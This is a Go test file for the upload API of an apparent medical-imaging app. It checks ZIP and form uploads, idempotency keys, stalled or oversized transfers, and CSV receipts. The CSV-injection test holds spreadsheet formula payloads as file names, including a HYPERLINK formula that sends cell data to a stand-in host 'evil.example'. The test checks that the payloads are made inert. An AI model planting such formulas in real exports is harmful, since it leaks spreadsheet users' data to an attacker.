package handlers_test

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"mime/multipart"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"time"

	"filmroom/dicom/phantom"
	"filmroom/handlers"
	"filmroom/imaging"
	"filmroom/tasks"
)

// A file is a name with content.
type file struct{ name, content string }

func slices3() []file {
	var files []file
	study := phantom.Study{Seed: 3, Slices: 3, Size: 16}
	for i := range study.Files() {
		var b bytes.Buffer
		if err := study.Write(i, &b); err != nil {
			panic(err)
		}
		files = append(files, file{fmt.Sprintf("CT/%d.dcm", i), b.String()})
	}
	return files
}

func zipped(files ...file) string {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for _, f := range files {
		if _, err := io.WriteString(must(z.Create(f.name)), f.content); err != nil {
			panic(err)
		}
	}
	if err := z.Close(); err != nil {
		panic(err)
	}
	return b.String()
}

// multi is a form with files, each named as it is.
func multi(field string, files ...file) edit {
	var b bytes.Buffer
	w := multipart.NewWriter(&b)
	for _, f := range files {
		part := must(w.CreatePart(map[string][]string{"Content-Disposition": {`form-data; name="` + field + `"; filename="` + strings.ReplaceAll(f.name, `"`, "%22") + `"`}}))
		if _, err := io.WriteString(part, f.content); err != nil {
			panic(err)
		}
	}
	if err := w.Close(); err != nil {
		panic(err)
	}
	return body(w.FormDataContentType(), b.String())
}

// brings uploads and waits for the import's end.
func (p *person) brings(edits ...edit) tasks.Task {
	p.t.Helper()
	var got struct{ TaskID string }
	a := p.api("POST", "/api/series", edits...).wants(http.StatusAccepted).json(&got)
	if where := a.response.Header.Get("Location"); where != "/api/tasks/"+got.TaskID {
		p.t.Errorf("the answer points to %q", where)
	}
	return p.ends(got.TaskID)
}

// receiptOf reads a receipt's JSON lines.
func (p *person) receiptOf(taskID string) (rows []imaging.Receipt) {
	p.t.Helper()
	lines := json.NewDecoder(bytes.NewReader(p.api("GET", "/api/tasks/"+taskID+"/receipt").wants(http.StatusOK).body))
	for lines.More() {
		var row imaging.Receipt
		if err := lines.Decode(&row); err != nil {
			p.t.Fatal(err)
		}
		rows = append(rows, row)
	}
	return rows
}

func TestFilesComeInByFormZipAndBare(t *testing.T) {
	t.Parallel()
	files := slices3()
	for name, c := range map[string]struct {
		body edit
		want int
	}{
		"a form of loose files": {multi("files", files...), 3},
		"a form with a ZIP":     {multi("files", file{"ct.zip", zipped(files...)}), 3},
		"a bare ZIP":            {body("application/zip", zipped(files...)), 3},
		"a bare DICOM file":     {body("application/dicom", files[0].content), 1},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			ada := setup(t).person("ada@example.org")
			end := ada.brings(c.body)
			if end.Status != tasks.StatusFinished {
				t.Fatalf("ended %s: %s", end.Status, end.Error)
			}
			rows := ada.receiptOf(end.ID)
			for _, r := range rows {
				if r.Outcome != imaging.Imported {
					t.Errorf("%s is %s: %s", r.Name, r.Outcome, r.Reason)
				}
			}
			var list struct{ Items []struct{ Instances int } }
			ada.api("GET", "/api/series").wants(http.StatusOK).json(&list)
			if len(rows) != c.want || len(list.Items) != 1 || list.Items[0].Instances != c.want {
				t.Errorf("%d rows, library %+v, want %d", len(rows), list, c.want)
			}
		})
	}
}

func TestAFilesNameReachesItsReceiptWhole(t *testing.T) {
	t.Parallel()
	ada := setup(t).person("ada@example.org")
	name := `Ord\ner/Ünter "x" 😀/../<b>.dcm`
	end := ada.brings(multi("files", file{name, "not an image"}))
	rows := ada.receiptOf(end.ID)
	if len(rows) != 1 || rows[0].Name != name {
		t.Errorf("the receipt has %+v instead of %q", rows, name)
	}
}

func TestTheSameKeyBringsTheSameFilesInOnce(t *testing.T) {
	t.Parallel()
	d := setup(t)
	ada, bob := d.person("ada@example.org"), d.person("bob@example.org")
	key := header("Idempotency-Key", "drop-1")
	files := slices3()
	first := ada.brings(multi("files", files...), key)
	var again struct{ TaskID string }
	ada.api("POST", "/api/series", multi("files", files...), key).wants(http.StatusOK).json(&again)
	if again.TaskID != first.ID {
		t.Errorf("sent again it is %s instead of %s", again.TaskID, first.ID)
	}
	ada.api("POST", "/api/series", multi("files", files[0]), key).refuses("Idempotency-Key")
	if other := bob.brings(multi("files", files[0]), key); other.ID == first.ID {
		t.Error("two people share a key")
	}
	for _, wrong := range []string{"two words", strings.Repeat("k", 201), "ümlaut"} {
		ada.api("POST", "/api/series", multi("files", files...), header("Idempotency-Key", wrong)).refuses("Idempotency-Key")
	}
}

func TestWhileATransferIsUnderWayItsKeyIsTaken(t *testing.T) {
	t.Parallel()
	ada := setup(t).person("ada@example.org")
	key := header("Idempotency-Key", "drop-1")
	first := ada.beginUpload("Idempotency-Key: drop-1\r\n")
	ada.staged(1)
	a := ada.api("POST", "/api/series", multi("files", slices3()...), key)
	if a.problem(http.StatusConflict); a.response.Header.Get("Retry-After") == "" {
		t.Error("the conflict does not say when to try again")
	}
	first.Close()
	ada.staged(0)
	ada.brings(multi("files", slices3()...), key)
}

// beginUpload sends the beginning of a ZIP and keeps the connection.
func (p *person) beginUpload(more string) net.Conn {
	p.t.Helper()
	c := must(net.Dial("tcp", strings.TrimPrefix(p.url, "http://")))
	p.t.Cleanup(func() { c.Close() })
	fmt.Fprintf(c, "POST /api/series HTTP/1.1\r\nHost: desk\r\nAuthorization: Bearer %s\r\nContent-Type: application/zip\r\nContent-Length: 1000000\r\n%s\r\n", p.token, more)
	if _, err := io.WriteString(c, strings.Repeat("x", 300_000)); err != nil {
		p.t.Fatal(err)
	}
	return c
}

// staged waits until so many transfers are staged.
func (p *person) staged(want int) {
	p.t.Helper()
	deadline := time.After(30 * time.Second)
	for {
		entries, err := os.ReadDir(filepath.Join(p.dir, "images", "staging"))
		if err == nil && len(entries) == want {
			return
		}
		select {
		case <-deadline:
			p.t.Fatalf("%d transfers are staged instead of %d", len(entries), want)
		default:
			runtime.Gosched()
		}
	}
}

// Threat: a disk filled by transfers that were begun and left.
func TestAClientThatLeavesInTheMiddleLeavesNothing(t *testing.T) {
	t.Parallel()
	ada := setup(t).person("ada@example.org")
	c := ada.beginUpload("")
	ada.staged(1)
	c.Close()
	ada.staged(0)
	var list taskList
	ada.api("GET", "/api/tasks").json(&list)
	if list.Total != 0 {
		t.Errorf("there are %d tasks", list.Total)
	}
}

// Threat: a client that sends a byte now and then, or none, and holds a connection and a staged file for ever.
func TestATransferThatStandsStillIsGivenUp(t *testing.T) {
	t.Parallel()
	ada := setup(t, options{config: func(c *handlers.Config) { c.Idle = 50 * time.Millisecond }}).person("ada@example.org")
	c := ada.beginUpload("")
	answer, err := io.ReadAll(c)
	if err != nil || !bytes.HasPrefix(answer, []byte("HTTP/1.1 408 ")) {
		t.Errorf("answered %q, %v", answer, err)
	}
	ada.staged(0)
}

// Threat: an upload larger than the disk.
func TestAnUploadThatIsTooLargeIsRefusedAndLeavesNothing(t *testing.T) {
	t.Parallel()
	ada := setup(t, options{config: func(c *handlers.Config) { c.MaxUpload = 1000 }}).person("ada@example.org")
	ada.api("POST", "/api/series", body("application/zip", strings.Repeat("x", 1001))).problem(http.StatusRequestEntityTooLarge)
	ada.api("POST", "/api/series", multi("files", file{"a", strings.Repeat("x", 1001)})).problem(http.StatusRequestEntityTooLarge)
	unsaid := func(r *http.Request) { r.ContentLength = -1 } // chunked: the size shows only as it comes
	ada.api("POST", "/api/series", body("application/zip", strings.Repeat("x", 1001)), unsaid).problem(http.StatusRequestEntityTooLarge)
	ada.staged(0)
}

func TestADiskWithoutRoomIsSaid(t *testing.T) {
	t.Parallel()
	ada := setup(t, options{desk: func(c *imaging.Config) { c.Limits.MinFree = 1 << 62 }}).person("ada@example.org")
	ada.api("POST", "/api/series", multi("files", slices3()...)).problem(http.StatusInsufficientStorage)
	ada.staged(0)
}

func TestWhatIsNoUploadIsRefused(t *testing.T) {
	t.Parallel()
	ada := setup(t).person("ada@example.org")
	ada.api("POST", "/api/series").problem(http.StatusUnsupportedMediaType)
	ada.api("POST", "/api/series", body("text/plain", "hello")).problem(http.StatusUnsupportedMediaType)
	ada.api("POST", "/api/series", body("application/zip", "")).refuses("files")
	ada.api("POST", "/api/series", multi("files")).refuses("files")
	ada.api("POST", "/api/series", multi("files", file{"", ""})).refuses("files")
	ada.api("POST", "/api/series", multi("file", file{"a.dcm", "x"})).refuses("file")
	ada.api("POST", "/api/series", body("multipart/form-data", "x")).problem(http.StatusBadRequest)
	ada.api("POST", "/api/series", body("multipart/form-data; boundary=b", "no such boundary")).problem(http.StatusBadRequest)
	ada.api("POST", "/api/series", body("multipart/form-data; boundary=b", "--b\r\nContent-Disposition: form-data; name=\"files\"; filename=\"a\"\r\n\r\ncut off")).problem(http.StatusBadRequest)
	ada.staged(0)
}

func TestAnUploadByAFormWithoutScriptsLeadsToItsTask(t *testing.T) {
	t.Parallel()
	ada := setup(t).person("ada@example.org")
	a := ada.page("POST", "/api/series", multi("files", slices3()...)).wants(http.StatusSeeOther)
	if where := a.response.Header.Get("Location"); !strings.HasPrefix(where, "/tasks/") {
		t.Errorf("leads to %q", where)
	}
}

// Threat: a file name that a spreadsheet runs as a formula.
func TestAReceiptAsCSVIsInertInASpreadsheet(t *testing.T) {
	t.Parallel()
	ada := setup(t).person("ada@example.org")
	names := []string{`=HYPERLINK("http://evil.example?"&A1)`, "+1", "-1", "@SUM(1)", "  =1", "＝1", "plain, \"quoted\""}
	var files []file
	for _, n := range names {
		files = append(files, file{n, "not an image"})
	}
	end := ada.brings(multi("files", files...))
	a := ada.api("GET", "/api/tasks/"+end.ID+"/receipt", accept("text/csv")).wants(http.StatusOK)
	if kind := a.response.Header.Get("Content-Type"); kind != "text/csv; charset=utf-8" {
		t.Errorf("the receipt is %s", kind)
	}
	rows, err := csv.NewReader(bytes.NewReader(a.body)).ReadAll()
	if err != nil || len(rows) != len(names)+1 {
		t.Fatalf("%d rows, %v", len(rows), err)
	}
	for i, name := range names {
		want := "'" + name
		if i == len(names)-1 {
			want = name
		}
		if got := rows[i+1][1]; got != want {
			t.Errorf("%q is written %q instead of %q", name, got, want)
		}
	}
	if b := ada.page("GET", "/api/tasks/"+end.ID+"/receipt?format=csv").wants(http.StatusOK); !bytes.Equal(a.body, b.body) {
		t.Error("?format=csv is another receipt")
	}
	ada.api("GET", "/api/tasks/"+end.ID+"/receipt?outcome=lost").refuses("outcome")
}

func TestAReceiptOfManyFilesIsWhole(t *testing.T) {
	t.Parallel()
	ada := setup(t).person("ada@example.org")
	var files []file
	for i := range 2001 {
		files = append(files, file{fmt.Sprintf("%d.txt", i), "not an image"})
	}
	end := ada.brings(body("application/zip", zipped(files...)))
	if rows := ada.receiptOf(end.ID); len(rows) != 2001 || rows[2000].Name != "2000.txt" {
		t.Errorf("the receipt has %d of 2001 rows", len(rows))
	}
}

func TestMemoryStaysFlatWhileALargeFileComesIn(t *testing.T) {
	if testing.Short() {
		t.Skip("moves 200 MB")
	}
	ada := setup(t, options{noRun: true}).person("ada@example.org")
	before := heap()
	largest := uint64(0)
	r := must(http.NewRequestWithContext(t.Context(), "POST", ada.url+"/api/series", nil))
	r.Header.Set("Authorization", "Bearer "+ada.token)
	r.Header.Set("Content-Type", "application/zip")
	r.Body = io.NopCloser(&watchedZeros{left: 200 << 20, every: func() { largest = max(largest, heap()) }})
	res := must(noRedirects.Do(r))
	defer res.Body.Close()
	if res.StatusCode != http.StatusAccepted {
		t.Fatalf("answered %d", res.StatusCode)
	}
	if grown := int64(largest) - int64(before); grown > 32<<20 {
		t.Errorf("the heap grew by %d bytes for an upload of 200 MB", grown)
	}
}

func heap() uint64 {
	runtime.GC()
	var m runtime.MemStats
	runtime.ReadMemStats(&m)
	return m.HeapAlloc
}

// watchedZeros is a long body that calls every now and then.
type watchedZeros struct {
	left  int
	every func()
}

func (z *watchedZeros) Read(b []byte) (int, error) {
	if z.left == 0 {
		return 0, io.EOF
	}
	n := min(len(b), z.left)
	clear(b[:n])
	if z.left -= n; z.left/(50<<20) != (z.left+n)/(50<<20) {
		z.every()
	}
	return n, nil
}
